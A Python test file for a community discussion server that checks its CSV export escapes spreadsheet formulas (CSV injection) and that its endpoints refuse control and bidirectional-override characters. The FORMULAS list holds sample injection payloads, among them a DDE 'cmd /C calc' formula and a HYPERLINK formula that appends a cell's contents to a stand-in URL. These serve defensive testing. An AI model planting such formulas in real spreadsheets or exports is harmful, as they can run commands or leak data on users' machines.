"""Texts the server publishes, over a real `yishi serve`: a community's CSV export
never hands a spreadsheet a formula (OWASP "CSV Injection"), and control and
bidirectional characters are refused at every edge that takes a text, with
nothing changed."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator

import pytest
from communityclient import CommunityApi, device, status_code
from roomclient import Api
from roomharness import ADMIN, Room, ServerProcess

FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"详情")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]


@pytest.fixture
async def capi(server: ServerProcess) -> AsyncIterator[CommunityApi]:
    client = CommunityApi(server.base_url, ADMIN)
    yield client
    await client.aclose()


async def _public_topic(capi: CommunityApi, cid: str, mod: str, **body: str) -> str:
    """A topic submitted by a clerk and, if the screening held it, released."""
    made = await capi.ok(
        await capi.submit(cid, token=mod, household="5-2-301", description="请大家讨论", **body)
    )
    if made["state"] == "held":
        await capi.ok(await capi.move(cid, made["topic_id"], mod, "release"))
    return str(made["topic_id"])


async def test_csv_export_cells_never_start_a_formula(capi: CommunityApi) -> None:
    made = await capi.create(categories=["其他"])
    cid, mod = made["community_id"], made["staff_token"]
    clerk = (await capi.staff(cid, mod, "clerk", "王文书"))["token"]
    for n, formula in enumerate(FORMULAS):
        await _public_topic(capi, cid, clerk, title=formula, place=FORMULAS[-1 - n])
    plain = await _public_topic(capi, cid, clerk, title="楼道灯坏了", place="5号楼")
    await capi.ok(await capi.move(cid, plain, mod, "declined", reason="-已修好"))

    response = await capi.get(f"/api/communities/{cid}/export.csv")
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["title"], r["place"]) for r in rows[:-1]] == [
        ("'" + f, "'" + FORMULAS[-1 - n]) for n, f in enumerate(FORMULAS)
    ]
    assert (rows[-1]["title"], rows[-1]["declined_reason"]) == ("楼道灯坏了", "'-已修好")
    for line in text.splitlines():  # every field quoted: a quote or a comma stays inside
        assert line.startswith('"') and line.endswith('"'), line
    assert rows[0]["cosigns"] == "0"  # numbers stay numbers


SPOOFS = ["看这里\u202egpj.exe", "楼道\x0b灯坏了", "空\x00字符"]


async def test_a_community_refuses_them_and_changes_nothing(capi: CommunityApi) -> None:
    made = await capi.create(categories=["其他"])
    cid, mod = made["community_id"], made["staff_token"]
    before = (await capi.get(f"/api/communities/{cid}/export.csv")).content
    for n, spoof in enumerate(SPOOFS):
        for field in ("title", "description", "place"):
            body = {"title": "楼道灯", "description": "5号楼", field: spoof}
            refused = await capi.submit(cid, device=device(40 + n), **body)
            assert status_code(refused) == (400, "bad_command"), refused.text
            assert field in refused.json()["error"]["message"]
    assert status_code(
        await capi.post(f"/api/communities/{cid}/staff", {"role": "clerk", "name": SPOOFS[0]}, mod)
    ) == (400, "bad_command")
    assert status_code(
        await capi.post("/api/communities", {"name": SPOOFS[1]}, capi.admin_token)
    ) == (400, "bad_command")
    tid = (
        await capi.ok(
            await capi.submit(cid, title="楼道灯", description="5号楼", device=device(49))
        )
    )["topic_id"]
    assert status_code(await capi.move(cid, tid, mod, "declined", reason=SPOOFS[2])) == (
        400,
        "bad_command",
    )
    assert (await capi.topic(cid, tid))["state"] == "submitted"
    after = (await capi.get(f"/api/communities/{cid}/export.csv")).content
    assert after.count(b"\r\n") == before.count(b"\r\n") + 1  # the one good topic


async def test_a_room_refuses_them_over_the_socket_and_http(room: Room, api: Api) -> None:
    mod = await room.moderator()
    _, resident = await room.resident("王阿姨")
    for spoof in SPOOFS:
        reply = await resident.fail("chat.send", "bad_command", text=spoof)
        assert "text holds U+" in str(reply)
        await mod.fail("action.add", "bad_command", title=spoof, owner="街道办", due="2026-02-28")
    staff = await api.http.post(
        f"/api/rooms/{room.room_id}/staff",
        json={"role": "office", "name": SPOOFS[0]},
        headers=api.bearer(room.mod_token),
    )
    assert staff.status_code == 400 and staff.json()["error"]["code"] == "bad_command"
    made = await api.create_room_raw({"title": SPOOFS[1]})
    assert made.status_code == 400 and made.json()["error"]["code"] == "bad_command"
    summary = (await api.summary(room.room_id)).json()
    assert all(s not in str(summary) for s in SPOOFS)
